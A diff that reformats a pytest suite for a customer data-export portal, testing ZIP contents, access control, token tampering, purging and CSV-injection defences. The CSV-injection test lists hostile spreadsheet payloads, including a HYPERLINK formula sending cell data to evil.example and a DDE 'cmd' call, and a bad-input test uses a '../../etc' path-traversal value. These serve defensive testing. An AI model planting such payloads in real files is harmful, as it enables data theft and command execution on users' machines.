@@ -56,6 +56,7 @@ NO_SUCH_EXPORT = "There is no such export."
 
 # --- helpers ---------------------------------------------------------------------------------------------------
 
+
 @pytest.fixture(autouse=True)
 def _request_types(portal_env: Path) -> None:
     register_all()
@@ -94,11 +95,13 @@ def _partials() -> list[str]:
     return sorted(p.name for p in directory.glob(".partial-*")) if directory.exists() else []
 
 
-def _build(principal: Principal, *, categories: list[str] | None = None, formats: list[str] | None = None,
-           key: str = "export") -> int:
+def _build(
+    principal: Principal, *, categories: list[str] | None = None, formats: list[str] | None = None, key: str = "export"
+) -> int:
     """File an export and let one worker run build it; returns the request id of the completed export."""
-    request_id = exports.request_export(principal, categories=categories or _all_categories(),
-                                        formats=formats or ALL_FORMATS, idempotency_key=key)
+    request_id = exports.request_export(
+        principal, categories=categories or _all_categories(), formats=formats or ALL_FORMATS, idempotency_key=key
+    )
     assert Worker(get_engine(), name="t").run_one(), "the worker found the export request"
     assert _status(request_id) == RequestStatus.COMPLETED.value, _status(request_id)
     assert _partials() == [], "no partly written ZIP is left behind after a build"
@@ -168,6 +171,7 @@ def _as_csv_text(value: Any) -> str:
 
 # --- what the ZIP holds ------------------------------------------------------------------------------------------
 
+
 def test_manifest_lists_every_other_file_with_its_checksum_and_size(ada_export: Export) -> None:
     manifest = ada_export.json("manifest.json")
     expected_files = {"data.json", "report.html", *(f"csv/{key}/{kind.key}.csv" for key, kind in _kinds())}
@@ -194,8 +198,14 @@ def test_manifest_checksums_verify_with_sha256sum(ada_export: Export, tmp_path: 
     with zipfile.ZipFile(ada_export.path) as archive:
         archive.extractall(tmp_path / "unpacked")
     listing = "".join(f"{e['sha256']}  {e['path']}\n" for e in ada_export.json("manifest.json")["files"])
-    result = subprocess.run(["sha256sum", "--check", "--strict", "-"], input=listing, text=True,
-                            cwd=tmp_path / "unpacked", capture_output=True, check=False)
+    result = subprocess.run(
+        ["sha256sum", "--check", "--strict", "-"],
+        input=listing,
+        text=True,
+        cwd=tmp_path / "unpacked",
+        capture_output=True,
+        check=False,
+    )
     assert result.returncode == 0, result.stdout + result.stderr
     assert result.stdout.count(": OK") == len(ada_export.json("manifest.json")["files"])
 
@@ -209,8 +219,11 @@ def test_data_json_validates_against_the_documented_schema(ada_export: Export) -
 
     # The schema can fail: a missing field, an extra field and a local timestamp are each caught.
     record = data["categories"]["usage"]["records"]["usage_event"][0]
-    for broken in ({k: v for k, v in record.items() if k != "page"}, {**record, "customer_id": GRACE},
-                   {**record, "occurred_at": record["occurred_at"].replace("+00:00", "")}):
+    for broken in (
+        {k: v for k, v in record.items() if k != "page"},
+        {**record, "customer_id": GRACE},
+        {**record, "occurred_at": record["occurred_at"].replace("+00:00", "")},
+    ):
         data["categories"]["usage"]["records"]["usage_event"][0] = broken
         assert not validator.is_valid(data), broken
     assert _schema()["$schema"] == "https://json-schema.org/draft/2020-12/schema"
@@ -383,16 +396,21 @@ def test_choices_are_kept_in_catalogue_order_without_repeats(portal_env: Path) -
 
 # --- bad input ----------------------------------------------------------------------------------------------------
 
-@pytest.mark.parametrize(("categories", "formats", "message"), [
-    ([], ["json"], "Choose at least one category."),
-    (["usage"], [], "Choose at least one format."),
-    (["usage"], ["pdf"], "Unknown format: pdf. Choose from JSON, CSV and HTML."),
-    (["usage"], ["json", "xml"], "Unknown format: xml. Choose from JSON, CSV and HTML."),
-    (["nonsense"], ["json"], "Unknown category: nonsense."),
-    (["usage", "../../etc"], ["csv"], "Unknown category: ../../etc."),
-])
+
+@pytest.mark.parametrize(
+    ("categories", "formats", "message"),
+    [
+        ([], ["json"], "Choose at least one category."),
+        (["usage"], [], "Choose at least one format."),
+        (["usage"], ["pdf"], "Unknown format: pdf. Choose from JSON, CSV and HTML."),
+        (["usage"], ["json", "xml"], "Unknown format: xml. Choose from JSON, CSV and HTML."),
+        (["nonsense"], ["json"], "Unknown category: nonsense."),
+        (["usage", "../../etc"], ["csv"], "Unknown category: ../../etc."),
+    ],
+)
 def test_a_bad_choice_is_refused_with_a_clear_message_and_files_nothing(
-        portal_env: Path, categories: list[str], formats: list[str], message: str) -> None:
+    portal_env: Path, categories: list[str], formats: list[str], message: str
+) -> None:
     ada = principal_for(ADA)
     before = _request_count()
     with pytest.raises(ExportError) as refused:
@@ -404,7 +422,8 @@ def test_a_bad_choice_is_refused_with_a_clear_message_and_files_nothing(
 
 
 def test_the_daily_limit_refuses_new_exports_but_answers_a_retried_one(
-        portal_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    portal_env: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("PORTAL_EXPORT_LIMIT_PER_DAY", "2")  # monkeypatch: the variable is gone after the test
     reconfigure(PORTAL_EXPORT_LIMIT_PER_DAY="2")
     assert get_settings().export_limit_per_day == 2
@@ -424,6 +443,7 @@ def test_the_daily_limit_refuses_new_exports_but_answers_a_retried_one(
 
 # --- downloads ------------------------------------------------------------------------------------------------------
 
+
 def test_a_download_is_refused_while_the_export_is_still_being_built(portal_env: Path) -> None:
     ada = principal_for(ADA)
     request_id = exports.request_export(ada, categories=["identity"], formats=["json"], idempotency_key="k")
@@ -441,12 +461,12 @@ def test_a_download_is_refused_while_the_export_is_still_being_built(portal_env:
 
 
 def test_a_zip_is_never_visible_under_its_final_name_while_it_is_written(
-        portal_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    portal_env: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Half way through the build (inside the HTML writer) the directory holds only the `.partial-` file
     and the download is refused; the package appears complete or not at all."""
     ada = principal_for(ADA)
-    request_id = exports.request_export(ada, categories=_all_categories(), formats=ALL_FORMATS,
-                                        idempotency_key="k")
+    request_id = exports.request_export(ada, categories=_all_categories(), formats=ALL_FORMATS, idempotency_key="k")
     seen: list[tuple[list[str], str]] = []
     original: Callable[..., int] = writers.html_kind
 
@@ -501,9 +521,13 @@ def test_another_customer_is_refused_by_id_and_by_copied_link(portal_env: Path) 
         assert str(refused.value) == NO_SUCH_EXPORT
 
     # By link: ada's link copied to grace, grace's own token pointed at ada's export, no sign-in at all.
-    for principal, request_id, token in ((grace, ada_request, ada_token), (grace, missing, ada_token),
-                                         (grace, ada_request, grace_token), (None, ada_request, ada_token),
-                                         (principal_for(LINUS), ada_request, ada_token)):
+    for principal, request_id, token in (
+        (grace, ada_request, ada_token),
+        (grace, missing, ada_token),
+        (grace, ada_request, grace_token),
+        (None, ada_request, ada_token),
+        (principal_for(LINUS), ada_request, ada_token),
+    ):
         with pytest.raises(ExportError) as refused:
             exports.open_download(principal, request_id, token)
         assert str(refused.value) == NOT_FOR_YOU
@@ -528,8 +552,15 @@ def test_a_tampered_or_foreign_token_is_refused(portal_env: Path) -> None:
     flipped = signature[0].swapcase() if signature[0].isalpha() else ("A" if signature[0] != "A" else "B")
     bad_signature = f"{payload}.{timestamp}.{flipped}{signature[1:]}"
     other_purpose = tokens.sign(tokens.Purpose.EMAIL_CHANGE, {"customer_id": ADA, "request_id": request_id})
-    for candidate in (bad_signature, _forged(token, customer_id=GRACE), _forged(token, request_id=request_id + 1),
-                      other_purpose, token[:-3], "", "x" * 9000):
+    for candidate in (
+        bad_signature,
+        _forged(token, customer_id=GRACE),
+        _forged(token, request_id=request_id + 1),
+        other_purpose,
+        token[:-3],
+        "",
+        "x" * 9000,
+    ):
         with pytest.raises(TokenError) as refused:
             tokens.read(tokens.Purpose.EXPORT_DOWNLOAD, candidate)
         assert refused.value.reason == "invalid", candidate
@@ -588,8 +619,11 @@ def test_purge_removes_packages_past_retention_and_keeps_fresh_ones(portal_env: 
     retention = package.expires_at - package.ready_at
     assert abs(retention - timedelta(days=get_settings().export_retention_days)) < timedelta(seconds=5)
     with session_scope() as session:
-        session.exec(update(ExportPackage).where(ExportPackage.request_id == old)  # type: ignore[call-overload]
-                     .values(expires_at=utcnow() - timedelta(minutes=1)))
+        session.exec(
+            update(ExportPackage)
+            .where(ExportPackage.request_id == old)  # type: ignore[call-overload]
+            .values(expires_at=utcnow() - timedelta(minutes=1))
+        )
     assert exports.purge_expired() == 1
     assert not old_path.exists() and fresh_path.is_file()
     assert _package(old).deleted_at is not None and _package(fresh).deleted_at is None
@@ -619,15 +653,16 @@ def test_no_partial_file_remains_after_builds_of_every_shape(portal_env: Path) -
 
 # --- known bugs (these fail until portal/ is fixed) -------------------------------------------------------------
 
+
 def test_bug_failed_build_leaves_partial_zip_with_personal_data_behind(
-        portal_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    portal_env: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """BUG (portal/exports/builder.py `build`): when writing fails half way (disk full, a database error, a
     crash), the `.partial-export-*.zip` is never removed. It holds the customer's data, no package row points
     at it, so neither delete_export, purge_expired nor purge_customer (run by an erasure) ever deletes it,
     and every retry leaves another one. Expected: the builder removes its temporary file when it fails."""
     ada = principal_for(ADA)
-    request_id = exports.request_export(ada, categories=_all_categories(), formats=ALL_FORMATS,
-                                        idempotency_key="k")
+    request_id = exports.request_export(ada, categories=_all_categories(), formats=ALL_FORMATS, idempotency_key="k")
     original: Callable[..., int] = writers.csv_kind
 
     def failing(out: writers.HashingWriter, kind: Any, batches: Any) -> int:
@@ -643,7 +678,8 @@ def test_bug_failed_build_leaves_partial_zip_with_personal_data_behind(
 
 
 def test_bug_lease_is_extended_only_while_the_first_format_is_written(
-        portal_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    portal_env: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """BUG (portal/exports/builder.py `build`): the worker's lease (30 s) is extended only through progress
     ticks, and `batches(k, first_format == ...)` ticks only while the first format is written. The CSV and
     HTML passes re-read every record without extending the lease: bench/export.py measured 63 s without an
@@ -684,8 +720,14 @@ def test_bug_lease_is_extended_only_while_the_first_format_is_written(
 
 # --- CSV injection (OWASP) ---------------------------------------------------------------------------------------
 
-FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("planted", FORMULAS)
@@ -693,8 +735,7 @@ def test_formulas_planted_in_a_record_reach_the_csv_neutralised(portal_env: Path
     """An address typed as a formula (or planted by an agent under a "help" grant) must not run in a spreadsheet:
     the CSV cell starts with an apostrophe; the JSON keeps the value exactly."""
     with session_scope() as session:
-        apply_rectification(session, customer_id=ADA, changes={"street": planted}, actor=customer(ADA),
-                            request_id=None)
+        apply_rectification(session, customer_id=ADA, changes={"street": planted}, actor=customer(ADA), request_id=None)
     request_id = _build(principal_for(ADA))
     files = _files(_download(principal_for(ADA), request_id))
     _, rows = _csv_rows(files["csv/identity/identity_profile.csv"])
